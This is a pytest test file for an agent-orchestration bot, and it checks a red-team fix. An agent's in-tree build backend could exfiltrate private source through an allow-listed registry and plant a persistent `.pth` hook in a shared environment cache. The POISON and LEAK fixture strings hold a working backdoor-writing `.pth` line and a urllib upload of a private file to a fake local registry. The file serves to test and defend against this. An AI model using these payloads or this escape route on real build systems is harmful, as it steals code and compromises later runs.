"""Red team: the test round rebuilt the environment from the agents' scratch head, with the
setup's network. An agent's build code (an in-tree PEP 517 backend here; equally a setup.py, a
package.json script) then ran with egress to every allow-listed host (a registry accepting
uploads is a way out for private source), and the environment it built was stored under a key
that later runs on the clean default branch trusted: its `.pth` wrote into their worktrees.

Now every environment is the default branch's (EnvironmentSpec.revision): the test round uses
the run's, builds nothing from the head, and says when the head changes what defines it; a
follow-up builds the default branch's too, not its pull request's."""

from __future__ import annotations

import asyncio
import os
import subprocess
from pathlib import Path

import pytest
from temporalio.client import Client
from temporalio.testing import ActivityEnvironment

from bot.activities import inputs
from bot.activities.environment import EnvironmentOptions, Environments
from bot.activities.inputs import EnvironmentSpec
from bot.activities.tests import SandboxedTests
from bot.app.local_forge import LocalForge
from bot.core.environment import EnvironmentStatus
from bot.git.mirror import MirrorCache
from bot.render.environment import definition_changed_note
from bot.sandbox.bwrap import run_sandboxed, sandbox_available
from tests.activities.test_environment import TARGET, _commit
from tests.fakehub import FakeHub
from tests.fakes import Script, ScriptedModel, Turn
from tests.support.environments import local_environment
from tests.support.project import create, edit, plan_turn
from tests.support.pyindex import FIXTURE_DEP, shared_index
from tests.support.runstack import OWNER, run_stack

pytestmark = pytest.mark.skipif(
    not sandbox_available() and not os.environ.get("CI"), reason="bubblewrap cannot run here"
)

PYPROJECT = """\
[build-system]
requires = []
build-backend = "backend"
backend-path = ["_build"]

[project]
name = "demo"
version = "1.0"
dependencies = [{dependency}]
"""

# A minimal in-tree backend: an editable wheel whose .pth puts /workspace/src on sys.path, plus
# whatever `EXTRA` says (code in a .pth runs in every later python of the environment).
BACKEND = """\
import base64, hashlib, os, zipfile
EXTRA = {extra!r}
def _rec(name, data):
    digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
    return f"{{name}},sha256={{digest}},{{len(data)}}"
META = "Metadata-Version: 2.1\\nName: demo\\nVersion: 1.0\\n"
def get_requires_for_build_editable(config_settings=None):
    return []
def prepare_metadata_for_build_editable(metadata_directory, config_settings=None):
    d = os.path.join(metadata_directory, "demo-1.0.dist-info"); os.makedirs(d)
    open(os.path.join(d, "METADATA"), "w").write(META); return "demo-1.0.dist-info"
def build_editable(wheel_directory, config_settings=None, metadata_directory=None):
    {run}
    files = {{"demo.pth": "/workspace/src\\n", "demo-1.0.dist-info/METADATA": META}}
    if EXTRA:
        files["aaa_hook.pth"] = EXTRA
    files["demo-1.0.dist-info/WHEEL"] = (
        "Wheel-Version: 1.0\\nGenerator: x\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n"
    )
    name = "demo-1.0-py3-none-any.whl"
    records = []
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as z:
        for path, text in files.items():
            z.writestr(path, text); records.append(_rec(path, text.encode()))
        records.append("demo-1.0.dist-info/RECORD,,")
        z.writestr("demo-1.0.dist-info/RECORD", "\\n".join(records) + "\\n")
    return name
"""

POISON = (
    "import os; os.path.isdir('/workspace') and "
    "open('/workspace/BACKDOOR.py', 'w').write('# from the cached environment\\n')\n"
)
LEAK = (
    "import urllib.request; urllib.request.urlopen(urllib.request.Request("
    "'http://127.0.0.1:{port}/-/upload', data=open('/workspace/src/private.py', 'rb').read(), "
    "method='PUT'), timeout=10).read()"
)


def _git(repo: Path, *args: str) -> None:
    subprocess.run(["git", *args], cwd=repo, check=True)


async def _registry(received: list[bytes]) -> asyncio.Server:
    """An allow-listed host that accepts uploads (as a package registry does)."""

    async def handle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        received.append(await reader.read(65536))
        writer.write(b"HTTP/1.1 201 Created\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
        await writer.drain()
        writer.close()

    return await asyncio.start_server(handle, "127.0.0.1", 0)


def _repo(tmp_path: Path, secret: str, scratch: dict[str, str]) -> tuple[Path, str]:
    """A repository whose default branch has the in-tree backend project (its private module
    holding `secret`) and a `scratch` branch with `scratch`'s files on top; (path, base)."""
    repo = tmp_path / "repo"
    repo.mkdir()
    base = _commit(
        repo,
        {
            "pyproject.toml": PYPROJECT.format(dependency=""),
            "_build/backend.py": BACKEND.format(extra="", run="pass"),
            "src/private.py": f"TRADE_SECRET = {secret}\n",
        },
    )
    _git(repo, "checkout", "-q", "-b", "scratch")
    _commit(repo, scratch)
    _git(repo, "checkout", "-q", "main")
    return repo, base


def _tests_activity(
    repo: Path, data: Path, options: EnvironmentOptions
) -> tuple[SandboxedTests, Environments]:
    environments = Environments(LocalForge(repo), MirrorCache(data / "git"), options)
    tests = SandboxedTests(LocalForge(repo), MirrorCache(data / "git"), data / "work", environments)
    return tests, environments


def _round(command: str, base: str) -> inputs.TestInput:
    spec = EnvironmentSpec(target=TARGET, revision=base)
    return inputs.TestInput(
        target=TARGET, branch="scratch", round=1, command=command, environment=spec
    )


async def test_an_agents_build_code_never_runs_with_the_network_nor_fills_the_cache(
    tmp_path: Path,
) -> None:
    """The scratch head changes the in-tree backend (to upload private source and plant a
    `.pth`) and a dependency. The test round on a fresh worker builds only the default branch's
    environment: the registry receives nothing, the round passes in it and says the head's
    definition is not installed; a later run gets the clean environment from the cache."""
    received: list[bytes] = []
    registry = await _registry(received)
    port = registry.sockets[0].getsockname()[1]
    hostile = BACKEND.format(extra=POISON, run=LEAK.format(port=port))
    changed = PYPROJECT.format(dependency='"x"')
    repo, base = _repo(
        tmp_path, "'hunter2'", {"_build/backend.py": hostile, "pyproject.toml": changed}
    )
    data = tmp_path / "data"
    options = local_environment(data, allow=(f"127.0.0.1:{port}",))
    tests, environments = _tests_activity(repo, data, options)
    command = "python -c 'import private; print(private.TRADE_SECRET)' && test ! -e BACKDOOR.py"
    params = _round(command, base)

    tested = await ActivityEnvironment().run(tests.run_tests, params)

    registry.close()
    assert received == []
    assert tested.passed, tested.output_tail
    assert tested.output_tail.endswith(definition_changed_note(base))
    later = tmp_path / "later"
    _git(repo, "worktree", "add", "-q", "--detach", str(later), base)
    assert params.environment is not None
    async with environments.ensure(params.environment) as prepared:
        assert prepared.report.status is EnvironmentStatus.CACHED
        result = await run_sandboxed("python -c 'import private'", later, environment=prepared.view)
    assert result.passed, result.output
    assert not (later / "BACKDOOR.py").exists()


async def test_a_head_that_keeps_the_definition_gets_no_note(tmp_path: Path) -> None:
    """A head that changes only code tests in the run's environment with nothing added."""
    repo, base = _repo(tmp_path, "1", {"src/private.py": "TRADE_SECRET = 2\n"})
    data = tmp_path / "data"
    tests, _ = _tests_activity(repo, data, local_environment(data))
    params = _round("python -c 'import private; assert private.TRADE_SECRET == 2'", base)

    tested = await ActivityEnvironment().run(tests.run_tests, params)

    assert tested.passed, tested.output_tail
    assert "[orchestrate]" not in tested.output_tail


REQUIREMENTS_ADDED = [
    Turn(tool_calls=[create("requirements.txt", f"{FIXTURE_DEP.name}\n")]),
    Turn(text="Added a requirement."),
]
CODE_CHANGED = [
    Turn(tool_calls=[edit("cli.py", "A tiny command-line tool.", "A tiny tool that greets.")]),
    Turn(text="Docstring changed."),
]


async def test_a_follow_up_builds_the_default_branchs_environment_not_its_pull_requests(
    hub: FakeHub, temporal_client: Client, task_queue: str, repo_name: str, tmp_path: Path
) -> None:
    """The first run's agent adds a requirements file (agents' work, on the pull request's
    branch): its test round says the definition changed and nothing is installed. A follow-up
    on that pull request still uses the default branch's environment (the first run's, cached):
    the index is never asked for the requirement."""
    index = shared_index()
    scripts: dict[str, Script] = {
        "submit_plan": [plan_turn(("implement",), "small"), plan_turn(("implement",), "small")],
        "implement": [*REQUIREMENTS_ADDED, *CODE_CHANGED],
    }
    before = len(index.requests)
    with ScriptedModel(scripts) as model:
        async with run_stack(hub, temporal_client, task_queue, repo_name, model, tmp_path) as stack:
            main = stack.hub.branch_sha(OWNER, stack.repo, "main") or ""
            await stack.command("/orchestrate add a requirement")
            first = await stack.finished_run()
            [pull] = stack.pulls()
            await stack.review_command(
                "/orchestrate say what the tool does", pull=pull.number, path="cli.py", line=7
            )
            follow = await stack.finished_run(issue=pull.number)
    assert first.environment.startswith("built in ")
    assert follow.environment == "cached"  # the default branch's, built by the first run
    assert first.rounds[-1].output_tail.endswith(definition_changed_note(main))
    assert follow.state == "done", follow.state
    assert not any(FIXTURE_DEP.name in request for request in index.requests[before:])
